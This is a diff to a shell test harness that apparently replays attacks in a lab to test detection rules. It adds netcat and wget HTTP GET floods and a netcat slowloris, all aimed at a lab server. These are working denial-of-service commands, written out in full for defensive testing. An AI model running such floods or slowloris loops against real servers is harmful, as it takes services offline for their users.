@@ -109,7 +109,10 @@ SCENARIOS=(
 	"http-ab|http_flood/ab|ab (apache2-utils): 3,000 GETs of / over 20 concurrent connections, one request a connection (HTTP/1.0)"
 	"http-ab-keepalive|http_flood/ab-k|ab -k: 6,000 GETs of /f/1k over 10 keep-alive connections"
 	"http-py|http_flood/py-get|a Python HTTP/1.1 GET flood (http.client): 8 threads, 2,400 requests of random query strings, 1-3 a connection, browser-like headers"
+	"http-nc|http_flood/nc-http10|nc (netcat-openbsd): bare HTTP/1.0 GETs with no header, 4 loops of 200, one connection each"
+	"http-wget|http_flood/wget-i|wget -i: 6 wgets fetching 300 URLs each over keep-alive connections"
 	"slowloris-py|slow_http/py-slowloris|a Python slowloris: 120 connections, a partial request each, then one header line every 3-7 s, for 12 s"
+	"slowloris-nc|slow_http/nc-slowloris|nc: 80 connections, a partial request each, then a header line every 4 s, 3 times"
 	"ssh-nmap-brute|ssh_bruteforce/nmap-ssh-brute|nmap --script ssh-brute: 30 passwords for 3 users, for 25 s at most"
 )
 
@@ -424,6 +427,33 @@ sc_http-py() {
 	for t in ts:
 	    t.join()
 	EOF
+	rules_head "$1"; echo "$2:src=$ATK4/32"
+}
+sc_http-nc() {
+	# shellcheck disable=SC2016  # expanded by that shell
+	T=60 x atk bash -c 'for j in 1 2 3 4; do
+		for k in $(seq 200); do
+			printf "GET /?%s-%s HTTP/1.0\r\n\r\n" "$j" "$k" | nc -N -w 3 -s "$1" "$2" 80 > /dev/null
+		done &
+	done; wait' nc "$ATK4" "$SRV4" > /dev/null 2>&1
+	rules_head "$1"; echo "$2:src=$ATK4/32"
+}
+sc_http-wget() {
+	seq 300 | sed "s|^|http://$SRV4/f/1k?|" > "$TMP/urls"
+	# shellcheck disable=SC2016  # expanded by that shell
+	T=60 x atk bash -c 'for j in 1 2 3 4 5 6; do
+		wget -q -O /dev/null -T 3 -t 1 --bind-address="$1" -i "$2" &
+	done; wait' wget "$ATK4" "$TMP/urls" > /dev/null 2>&1
+	rules_head "$1"; echo "$2:src=$ATK4/32"
+}
+sc_slowloris-nc() {
+	# shellcheck disable=SC2016  # expanded by that shell
+	T=40 x atk bash -c 'for k in $(seq 80); do
+		{ printf "GET /?%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\n" "$k" "$2"
+		  for r in 1 2 3; do sleep 4; printf "X-a-%s: %s\r\n" "$r" "$k"; done; } |
+			nc -w 20 -s "$1" "$2" 80 > /dev/null &
+		sleep 0.05
+	done; wait' slow "$ATK4" "$SRV4" > /dev/null 2>&1
 	rules_head "$1"; echo "$2:src=$ATK4/32"
 }
 sc_slowloris-py() {
